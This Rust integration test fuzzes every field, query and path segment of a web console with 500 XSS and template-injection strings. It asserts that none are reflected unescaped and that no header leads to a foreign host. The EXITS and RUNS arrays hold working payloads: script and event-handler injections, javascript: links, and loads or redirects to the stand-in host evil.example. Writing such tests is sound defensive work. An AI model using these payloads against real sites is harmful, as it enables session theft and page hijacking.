//! Hostile texts: in every field of every page they stay texts.

use super::{Browser, member, token};
use crate::kit::http::{Answer, Request, encoded};
use crate::kit::{MTN, Setup, to};
use domain::user::role::Role;
use server::http::{Access, routes};
use std::collections::BTreeSet;

/// Ways out of the place of a text in HTML.
const EXITS: [&str; 25] = [
    "",
    "\"",
    "'",
    "\">",
    "'>",
    "\"'>",
    "-->",
    "]]>",
    "</p>",
    "</td></tr></table>",
    "</textarea>",
    "</title>",
    "</option></select>",
    "</script>",
    "</style>",
    "</pre>",
    "</code>",
    "\" autofocus ",
    "' autofocus ",
    "\u{a0}\">",
    "\r\n\r\n",
    "\t\"",
    "&quot;>",
    "&#34;>",
    "\u{ff1e}\">",
];
/// Things that a browser would run or load, and templates that an engine would.
const RUNS: [&str; 20] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script xlink:href=data:,alert(1)></script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=//evil.example><button>x</button>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<div hx-get=//evil.example hx-trigger=load></div>",
    "<style>@import '//evil.example/x.css';</style>",
    "onfocus=\"alert(1)\" x=\"",
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "{{ 7*7 }}<%= 7*7 %>${7*7}\"'",
    "<input autofocus onfocus=alert(1)>",
];
/// Routes that every hostile text visits in all its fields. The others are visited by some.
const REFLECTING: [&str; 8] = [
    "/console/messages",
    "/console/wallet",
    "/console/send",
    "/console/send/count",
    "/console/send/review",
    "/console/profile",
    "/console/profile/name",
    "/sign-in",
];
/// Every text of this many visits all routes.
const STEP: usize = 50;

fn hostile() -> Vec<String> {
    let pairs = EXITS
        .iter()
        .flat_map(|exit| RUNS.map(|run| format!("{exit}{run}")));
    pairs.collect()
}

/// The answer has no part of the text that left its place.
fn is_harmless(place: &str, page: &Answer, text: &str) {
    assert!(page.status < 500, "{place}: {} {text}", page.status);
    let runs = RUNS.iter().filter(|run| run.contains(['<', '"']));
    for run in runs {
        let html = page.text();
        let is_run = text.contains(run) && html.contains(run);
        assert!(!is_run, "{place} shows {text}: {html}");
    }
    for name in [
        "location",
        "content-disposition",
        "set-cookie",
        "hx-redirect",
    ] {
        for value in page.headers(name) {
            let leads_away = value.contains("evil") || value.contains(['<', '>', '\n']);
            assert!(!leads_away, "{place} {name}: {value}");
        }
    }
}

/// Returns the names of all fields on a page.
fn names(page: &Answer) -> BTreeSet<String> {
    let parts = page.text().split(" name=\"").skip(1);
    let names = parts.filter_map(|part| Some(part.split_once('"')?.0.to_owned()));
    let kept = [
        "csrf_token",
        "viewport",
        "color-scheme",
        "referrer",
        "htmx-config",
    ];
    names
        .filter(|name| !kept.contains(&name.as_str()))
        .collect()
}

async fn visit(browser: &mut Browser, method: &str, path: &str, fields: &[(&str, &str)]) -> Answer {
    if method == "GET" {
        let query = encoded(fields);
        browser.ask(Request::get(&format!("{path}?{query}"))).await
    } else {
        browser.post(path, fields).await
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn no_field_runs_any_of_500_hostile_texts() {
    let most = "1000000";
    let ogene = Setup::new()
        .set("limits.sends_per_minute", most)
        .set("limits.reads_per_minute", most)
        .start()
        .await;
    let (mut browser, _) = member(&ogene, Some(ogene.shop.id), Role::Owner).await;
    let routes: Vec<_> = routes()
        .into_iter()
        .filter(|route| !route.path.contains("sign-out") && !route.path.contains("/end"))
        .filter(|route| !matches!(route.access, Access::Session))
        .filter(|route| !route.path.starts_with("/operator"))
        .collect();
    let mut fields = BTreeSet::new();
    for route in routes.iter().filter(|route| route.method == "GET") {
        if !route.path.contains('{') && !route.path.contains("/exports/") {
            fields.extend(names(&browser.get(route.path).await));
        }
    }
    assert!(fields.len() >= 15, "{fields:?}");
    let csrf = token(&browser.get("/console/profile").await);
    let texts = hostile();
    assert_eq!(texts.iter().collect::<BTreeSet<_>>().len(), 500);
    for (number, text) in texts.iter().enumerate() {
        let mut given: Vec<(&str, &str)> = fields
            .iter()
            .map(|name| (name.as_str(), text.as_str()))
            .collect();
        given.push(("csrf_token", &csrf));
        for route in &routes {
            if number % STEP != 0 && !REFLECTING.contains(&route.path) {
                continue;
            }
            // The part of a path is a field as well.
            let part = encoded(&[("", text)])[1..].replace('+', "%20");
            let path = route.path.replace('{', "\u{1}{").replace('}', "}\u{1}");
            let path: String = path
                .split('\u{1}')
                .map(|piece| {
                    if piece.starts_with('{') {
                        &*part
                    } else {
                        piece
                    }
                })
                .collect();
            let answer = visit(&mut browser, route.method, &path, &given).await;
            is_harmless(&path, &answer, text);
        }
        if number % STEP == 0 {
            // The text of a message is stored, and its page shows it.
            let sent = ogene.send(to(MTN, text)).await;
            if sent.status == 200 {
                let id = sent.json()["data"]["message_id"].clone();
                let id = id.as_str().expect("an id");
                for path in ["/console/messages", "/console/"] {
                    is_harmless(path, &browser.get(path).await, text);
                }
                for last in ["", "/retry", &format!("/{MTN}")] {
                    let path = format!("/console/messages/{id}{last}");
                    is_harmless(&path, &browser.get(&path).await, text);
                }
            }
        }
    }
    // The session is still that of the owner: no text has changed its rights.
    assert_eq!(browser.get("/console/team").await.status, 200);
    ogene.end().await;
}
